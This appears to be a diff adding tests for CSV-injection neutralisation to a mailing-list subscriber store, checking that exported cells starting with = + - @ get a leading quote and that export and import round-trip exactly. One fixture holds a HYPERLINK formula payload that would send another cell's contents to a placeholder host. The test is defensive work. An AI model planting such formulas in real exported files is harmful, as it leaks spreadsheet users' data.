@@ -3,6 +3,8 @@ suppressions, and all-or-nothing transactions."""
 
 from __future__ import annotations
 
+import csv
+import io
 import itertools
 from collections.abc import Iterator
 from pathlib import Path
@@ -315,3 +317,62 @@ def test_case_variants_never_create_duplicate_subscribers(
     found = members(sqlite_store, list_name)
     assert sorted(found) == sorted(distinct) and len(set(found)) == len(found)
     assert sum(sqlite_store.status_counts().values()) - before <= len(distinct)
+
+
+# OWASP's CSV-injection triggers: a spreadsheet evaluates a cell that begins with one.
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+_cells = (
+    st.text(
+        alphabet=st.sampled_from(["=", "+", "-", "@", "'", "a", "Б", " ", ",", '"', "(", "1"]),
+        min_size=1,
+        max_size=8,
+    )
+    .map(str.strip)
+    .filter(bool)
+)
+
+
+def test_export_neutralises_cells_a_spreadsheet_would_evaluate(store: Store) -> None:
+    """Every exported cell that starts with = + - @ (OWASP's rule) gets a leading ',
+    a name that starts with ' and then one of those gets one more, and nothing else
+    changes; the header is neutralised the same way."""
+    store.add("-ann@example.com", "weekly", name='=HYPERLINK("http://x/?"&A2,"click")')
+    store.add("bob@example.com", "weekly", name="'+7 700", attributes={"city": "@home"})
+    store.add("cid@example.com", "weekly", name="O'Brien", attributes={"city": "Astana"})
+    out = io.StringIO()
+    store.export_csv("weekly", out, status=None)
+    rows = list(csv.reader(io.StringIO(out.getvalue())))
+    assert rows == [
+        ["email", "name", "city"],
+        ["'-ann@example.com", '\'=HYPERLINK("http://x/?"&A2,"click")', ""],
+        ["bob@example.com", "''+7 700", "'@home"],
+        ["cid@example.com", "O'Brien", "Astana"],
+    ]
+    for cell in (cell for row in rows for cell in row):
+        assert not cell.startswith(TRIGGERS)
+
+
+@settings(
+    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
+)
+@given(st.lists(st.tuples(_cells, _cells), min_size=1, max_size=6))
+def test_export_then_import_round_trips_every_name_and_attribute_exactly(
+    sqlite_store: Store, people: list[tuple[str, str]]
+) -> None:
+    """Names and attribute values made of trigger characters, quotes and commas (also
+    names that genuinely begin with ' and a trigger) come back from export → import
+    exactly as they were stored."""
+    list_name = f"prop{next(_lists)}"
+    stored = {}
+    for number, (name, note) in enumerate(people):
+        email = f"p{number}@example.com"
+        sqlite_store.add(email, list_name, name=name, attributes={"note": note})
+        stored[email] = (name, {"note": note})
+    out = io.StringIO()
+    sqlite_store.export_csv(list_name, out, status=None)
+    rows = list(parse_subscriber_csv(out.getvalue().encode().splitlines(True), "export.csv"))
+    assert {
+        row.email: (row.name, row.attributes) for row in rows if isinstance(row, CsvRow)
+    } == stored
+    again = sqlite_store.import_entries(rows, list_name, origin="export.csv")
+    assert (again.added, again.updated, again.rejected_count) == (0, 0, 0)
